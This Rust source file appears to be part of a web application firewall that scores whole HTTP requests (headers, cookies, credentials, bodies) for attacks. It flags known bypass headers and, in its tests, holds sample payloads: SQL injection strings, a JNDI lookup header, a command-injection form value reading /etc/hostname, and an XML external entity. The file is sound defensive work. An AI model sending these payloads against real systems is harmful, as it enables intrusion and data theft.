//! A whole request as a proxy or web firewall has it: all headers, cookies and the body, besides what
//! an access log holds.

use super::{
    Kind, Scratch, Verdict, WebRequest, address, base64, body, cut, decode, html, judge_with,
    literals, literals::Scope, multipart, protocol, read_value, text,
};

/// Most headers of one request that are read.
pub(super) const MAX_HEADERS: usize = 128;
/// Most cookies of one request that are read.
const MAX_COOKIES: usize = 256;

/// A whole request.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct WholeRequest<'r> {
    /// Method, such as `POST`.
    pub method: &'r str,
    /// Request target or full URL.
    pub uri: &'r str,
    /// Version, such as `HTTP/1.1`.
    pub version: Option<&'r str>,
    /// Names and values, as they came.
    pub headers: &'r [(&'r str, &'r str)],
    /// The body as text.
    pub body: Option<&'r str>,
}

impl<'r> WholeRequest<'r> {
    /// All values of the header `name`.
    pub(super) fn headers_named<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'r str> + 'a {
        let headers = self.headers.iter().take(MAX_HEADERS);
        headers
            .filter(move |(key, _)| key.trim().eq_ignore_ascii_case(name))
            .map(|(_, value)| value.trim())
    }

    /// The first value of the header `name`.
    pub(super) fn header(&self, name: &str) -> Option<&'r str> {
        let found = self
            .headers
            .iter()
            .find(|(key, _)| key.trim().eq_ignore_ascii_case(name));
        found.map(|(_, value)| *value)
    }
}

/// Judges a whole request.
#[must_use]
pub fn judge_whole(request: &WholeRequest<'_>, scratch: &mut Scratch) -> Verdict {
    let logged = WebRequest {
        method: request.method,
        uri: request.uri,
        user_agent: request.header("user-agent"),
        referer: request.header("referer"),
    };
    let mut verdict = judge_with(&logged, scratch);
    for (name, value) in request.headers.iter().take(MAX_HEADERS) {
        read_header(name.trim(), cut(value), &mut verdict);
    }
    if let Some(sent) = request.body.filter(|body| !body.trim().is_empty()) {
        let content_type = request.header("content-type").unwrap_or("");
        body::read(content_type, sent, &mut verdict);
    }
    protocol::read(request, &mut verdict);
    base64::read(request, &mut verdict);
    verdict
}

/// Headers whose grammar has quotes, brackets and stars of its own.
const STRUCTURED: &[&str] = &[
    "authorization",
    "cache-control",
    "connection",
    "content-disposition",
    "content-length",
    "content-type",
    "date",
    "dnt",
    "etag",
    "forwarded",
    "from",
    "host",
    "keep-alive",
    "link",
    "origin",
    "pragma",
    "priority",
    "range",
    "te",
    "traceparent",
    "upgrade",
    "via",
    "want-digest",
];

fn read_header(name: &str, value: &str, verdict: &mut Verdict) {
    let lower = text::head(name, 64).to_ascii_lowercase();
    match lower.as_str() {
        // Read with the target.
        "user-agent" | "referer" => {}
        "cookie" => cookies(value, verdict),
        // Programs take it for a proxy to use (CVE-2016-5385).
        "proxy" => verdict.add(Kind::Header, 5, "header-proxy"),
        "authorization" => credentials(value, verdict),
        // A framework's mark for calls to itself: whoever sends it skips the log-in (CVE-2025-29927).
        "x-middleware-subrequest" => verdict.add(Kind::KnownExploit, 5, "header-inner-call"),
        "x-filename" | "x-file-name" => multipart::file_name(value, verdict),
        _ => {
            literals::scan(value, Scope::AGENT, verdict);
            literals::scan(value, Scope::VALUE, verdict);
            text::expressions(value, verdict);
            if value.contains('<') && !value.starts_with('<') {
                html::read(value, verdict);
            }
            let structured = STRUCTURED.contains(&lower.as_str())
                || ["accept", "if-", "sec-"]
                    .iter()
                    .any(|start| lower.starts_with(start));
            if !structured && decode::needs_reading(value.as_bytes()) {
                read_value(&decode::value(value, false), verdict);
            } else if value.contains("..") {
                text::traversal(&decode::value(value, false), false, verdict);
            }
        }
    }
}

/// A name and password, or a token. The schemes with parameters have quotes of their own.
fn credentials(value: &str, verdict: &mut Verdict) {
    literals::scan(value, Scope::AGENT, verdict);
    let (scheme, rest) = value.split_once(' ').unwrap_or(("", value));
    let named = rest.contains("=\"") || rest.contains(", ");
    if !named && decode::needs_reading(rest.trim_end_matches('=').as_bytes()) {
        read_value(&decode::value(rest, false), verdict);
    }
    if scheme.eq_ignore_ascii_case("basic")
        && let Some(plain) = base64::text(rest)
    {
        read_value(&plain, verdict);
    }
}

fn cookies(value: &str, verdict: &mut Verdict) {
    for cookie in value.split(';').take(MAX_COOKIES) {
        let cookie = cookie.trim();
        let (name, value) = cookie.split_once('=').unwrap_or(("", cookie));
        super::read_sent(name, true, verdict);
        if protocol::has_control_character(name) {
            verdict.add(Kind::Protocol, 5, "protocol-control-character");
        }
        let value = value.trim_matches('"');
        if value.contains("//") || value.contains("%2F%2F") || value.contains("\\\\") {
            address::inclusion(name, &decode::value(value, true), verdict);
        }
        super::read_sent(value, true, verdict);
    }
    // A semicolon may belong to an attack.
    if decode::has_quote_or_bracket(&value.replace(';', "")) {
        read_value(&decode::value(value, true), verdict);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(request: &WholeRequest<'_>, expected: &[&str]) {
        let verdict = judge_whole(request, &mut Scratch::default());
        assert_eq!(verdict.why, expected, "{request:?}");
    }

    #[test]
    fn headers_are_judged() {
        for (header, value, expected) in [
            ("Accept", "text/html;q=0.9,*/*;q=0.8", &[] as &[&str]),
            ("If-None-Match", "W/\"abc-12\"", &[]),
            (
                "Sec-CH-UA",
                "\"Chromium\";v=\"126\", \"Not;A=Brand\";v=\"8\"",
                &[],
            ),
            (
                "Cookie",
                "session=abc123; theme=dark; town=King%27s%20Lynn",
                &[],
            ),
            ("Cookie", "id=1%27%20or%20%271%27=%271", &["sql-condition"]),
            ("X-Forwarded-For", "203.0.113.7, 198.51.100.2", &[]),
            (
                "X-Api-Version",
                "${jndi:ldap://192.0.2.1/a}",
                &["log-lookup", "inclusion-scheme", "template-lookup"],
            ),
            ("Proxy", "http://192.0.2.1/", &["header-proxy"]),
            ("Accept", "", &["protocol-empty-header"]),
            ("Accept-Encoding", "gzip;q=1.0, br, *;q=0.1", &[]),
            ("Accept-Encoding", "nonsense", &["protocol-unknown-coding"]),
            (
                "Content-Type",
                "text/xml; nonsense",
                &["protocol-content-type"],
            ),
            ("Transfer-Encoding", "xchunked", &["protocol-two-lengths"]),
        ] {
            check(
                &WholeRequest {
                    method: "GET",
                    uri: "/",
                    headers: &[(header, value)],
                    ..WholeRequest::default()
                },
                expected,
            );
        }
    }

    #[test]
    fn bodies_are_judged() {
        let json = [("Content-Type", "application/json")];
        let form = [("Content-Type", "application/x-www-form-urlencoded")];
        let xml = [("Content-Type", "text/xml")];
        for (headers, body, expected) in [
            (&json, r#"{"text":"a < b, it's \"fine\""}"#, &[] as &[&str]),
            (
                &json,
                r#"{"id":"1\u0027 or \u00271\u0027=\u00271"}"#,
                &["sql-condition"],
            ),
            (&form, "name=Anne+O%27Brien&note=50%25+off", &[]),
            (
                &form,
                "host=192.0.2.1%3Bcat+/etc/hostname",
                &["command-words", "command-after-separator"],
            ),
            (
                &xml,
                "<?xml version=\"1.0\"?><order><item id=\"7\">Tea &amp; milk</item></order>",
                &[],
            ),
            (
                &xml,
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]><a>&b;</a>",
                &["xml-entity", "unusual-scheme", "inclusion-scheme"],
            ),
        ] {
            let request = WholeRequest {
                method: "POST",
                uri: "/",
                version: Some("HTTP/2"),
                headers,
                body: Some(body),
            };
            check(&request, expected);
        }
    }

    proptest::proptest! {
        #[test]
        fn any_request_is_judged(kind in "[ -~]{0,40}", body in ".{0,200}", cookie in ".{0,40}") {
            let headers = [("Content-Type", kind.as_str()), ("Cookie", cookie.as_str())];
            let request = WholeRequest { method: "POST", uri: "/", version: None, headers: &headers, body: Some(&body) };
            let verdict = judge_whole(&request, &mut Scratch::default());
            proptest::prop_assert_eq!(verdict.categories.is_empty(), verdict.score == 0);
        }
    }
}
